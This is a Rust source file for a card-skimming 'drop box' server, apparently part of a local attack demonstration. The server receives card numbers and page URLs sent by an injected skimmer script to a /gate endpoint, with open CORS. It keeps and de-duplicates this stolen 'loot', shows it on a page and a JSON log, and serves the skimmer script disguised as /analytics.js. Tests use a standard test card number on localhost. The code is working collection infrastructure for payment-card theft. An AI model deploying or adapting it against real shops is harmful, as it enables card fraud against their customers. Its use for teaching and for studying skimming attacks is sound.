//! The skimmer's drop box: takes what its script sends, keeps the latest, tells about it.

use std::collections::VecDeque;
use std::sync::{Arc, Mutex, PoisonError};

use askama::Template;
use axum::extract::{DefaultBodyLimit, RawQuery, State};
use axum::http::StatusCode;
use axum::http::header::ACCESS_CONTROL_ALLOW_ORIGIN;
use axum::response::{IntoResponse, Response};
use axum::routing::get;
use axum::{Json, Router};
use jiff::Timestamp;
use serde::Serialize;

use super::Tell;
use super::addresses::SharedAddresses;
use super::page::{page, script, style};
use super::vendor::skimmer;
use crate::clock::Clock;

/// Pieces kept.
const KEPT: usize = 200;
/// Longest message taken, in bytes.
const MESSAGE: usize = 8 * 1024;

/// One piece of loot.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
pub struct Loot {
    /// When it came.
    pub at: Timestamp,
    /// The card number, as typed (digits and spaces).
    pub card: String,
    /// The page it was typed on.
    pub page: String,
}

impl Loot {
    /// The form that a skimmer sends; `None` without a card number. Anybody may send anything here, and
    /// it goes to a terminal, so little is kept.
    fn read(form: &[u8], at: Timestamp) -> Option<Self> {
        let mut loot = Self { at, card: String::new(), page: String::new() };
        for (name, value) in url::form_urlencoded::parse(form) {
            match name.as_ref() {
                "card" => {
                    loot.card = value.chars().filter(|c| c.is_ascii_digit() || *c == ' ').take(32).collect();
                }
                "page" => loot.page = value.chars().filter(char::is_ascii_graphic).take(200).collect(),
                _ => {}
            }
        }
        loot.card.contains(|c: char| c.is_ascii_digit()).then_some(loot)
    }

    fn same(&self, other: &Self) -> bool {
        self.card == other.card && self.page == other.page
    }

    fn begins(&self, other: &Self) -> bool {
        self.page == other.page && other.card.starts_with(&self.card)
    }

    /// For the page.
    fn time(&self) -> String {
        self.at.strftime("%H:%M:%S").to_string()
    }
}

/// The drop box's server.
#[derive(Clone)]
pub(super) struct DropBox {
    at: SharedAddresses,
    tell: Tell,
    clock: Clock,
    loot: Arc<Mutex<VecDeque<Loot>>>,
}

#[derive(Template)]
#[template(path = "drop_box.html")]
struct Contents {
    at: SharedAddresses,
    loot: Vec<Loot>,
}

impl DropBox {
    pub(super) fn new(at: SharedAddresses, tell: Tell, clock: Clock) -> Self {
        Self { at, tell, clock, loot: Arc::default() }
    }

    pub(super) fn loot(&self) -> Vec<Loot> {
        self.loot.lock().unwrap_or_else(PoisonError::into_inner).iter().cloned().collect()
    }

    pub(super) fn router(&self) -> Router {
        Router::new()
            .route("/", get(contents))
            .route("/log", get(log))
            .route("/gate", get(gate_get).post(gate_post))
            .route("/analytics.js", get(analytics))
            .route("/drop-box.css", get(style))
            .layer(DefaultBodyLimit::max(MESSAGE))
            .with_state(self.clone())
    }

    /// A skimmer sends each number in several ways, so that one gets through: it counts once.
    fn take(&self, form: &[u8]) {
        let Some(piece) = Loot::read(form, self.clock.now()) else { return };
        let line = format!("The skimmer's drop box RECEIVED card {} from {}", piece.card, piece.page);
        {
            let mut loot = self.loot.lock().unwrap_or_else(PoisonError::into_inner);
            if loot.back().is_some_and(|last| last.same(&piece)) {
                return;
            }
            // Sent while it was still being typed.
            if loot.back().is_some_and(|last| last.begins(&piece)) {
                loot.pop_back();
            }
            if loot.len() >= KEPT {
                loot.pop_front();
            }
            loot.push_back(piece);
        }
        (self.tell)(&line);
    }
}

async fn contents(State(drop_box): State<DropBox>) -> Response {
    let mut loot = drop_box.loot();
    loot.reverse();
    page(&Contents { at: Arc::clone(&drop_box.at), loot })
}

async fn log(State(drop_box): State<DropBox>) -> Response {
    ([(ACCESS_CONTROL_ALLOW_ORIGIN, "*")], Json(drop_box.loot())).into_response()
}

async fn gate_get(State(drop_box): State<DropBox>, RawQuery(query): RawQuery) -> Response {
    drop_box.take(query.unwrap_or_default().as_bytes());
    taken()
}

async fn gate_post(State(drop_box): State<DropBox>, body: axum::body::Bytes) -> Response {
    drop_box.take(&body);
    taken()
}

fn taken() -> Response {
    (StatusCode::NO_CONTENT, [(ACCESS_CONTROL_ALLOW_ORIGIN, "*")]).into_response()
}

/// The script that the attacked page was made to load.
async fn analytics(State(drop_box): State<DropBox>) -> Response {
    script(skimmer(&drop_box.at, "foreign"))
}

#[cfg(test)]
mod tests {
    use super::*;

    fn read(form: &str) -> Option<(String, String)> {
        Loot::read(form.as_bytes(), Timestamp::UNIX_EPOCH).map(|loot| (loot.card, loot.page))
    }

    #[test]
    fn a_card_number_and_its_page_are_kept() {
        let form = "holder=Ada&card=4111+1111+1111+1111&page=http%3A%2F%2F127.0.0.1%3A7601%2Fpay%2Fpin";
        let expected = ("4111 1111 1111 1111".to_owned(), "http://127.0.0.1:7601/pay/pin".to_owned());
        assert_eq!(read(form), Some(expected));
        assert_eq!(read("card=&page=x"), None);
        assert_eq!(read(""), None);
    }

    #[test]
    fn nothing_that_is_kept_can_move_a_cursor() {
        let (card, page) = read("card=4%1b[2J111%0a%c2%9b&page=%1b]0;x%07%e2%80%aehttp").unwrap();
        assert_eq!(card, "42111");
        assert!(page.chars().all(|c| c.is_ascii_graphic()));
    }
}
